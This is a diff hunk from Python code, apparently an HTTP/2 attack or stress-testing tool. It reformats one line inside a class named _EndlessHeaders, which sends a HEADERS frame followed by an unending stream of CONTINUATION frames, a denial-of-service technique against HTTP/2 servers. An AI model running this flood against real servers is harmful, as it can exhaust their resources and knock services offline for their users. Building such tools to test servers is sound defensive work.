@@ -228,9 +228,7 @@ class _EndlessHeaders(Attack):
             connection.sendall(PREFACE)
             while read_frame(connection)[0] != SETTINGS:
                 pass
-            connection.sendall(
-                frame(SETTINGS, ACK, 0) + frame(HEADERS, 0, 1, self._first(server))
-            )
+            connection.sendall(frame(SETTINGS, ACK, 0) + frame(HEADERS, 0, 1, self._first(server)))
             piece = self._next()
             while not is_over.is_set():
                 connection.sendall(frame(CONTINUATION, 0, 1, piece))
